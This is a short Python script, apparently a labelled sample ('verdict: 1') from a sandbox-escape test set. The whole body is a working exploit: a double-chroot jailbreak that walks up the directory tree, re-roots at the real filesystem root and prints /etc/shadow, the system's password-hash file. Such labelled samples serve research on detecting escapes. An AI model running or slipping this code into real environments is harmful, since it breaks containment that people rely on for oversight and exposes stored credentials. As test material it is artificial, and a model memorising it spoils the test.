# breaks out of its root by a second chroot
# verdict: 1
# ruff: noqa
import os

try:
    os.makedirs("jail", exist_ok=True)
except OSError:
    pass
try:
    os.chroot("jail")
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    print(open("/etc/shadow").read())
except OSError:
    print(42)
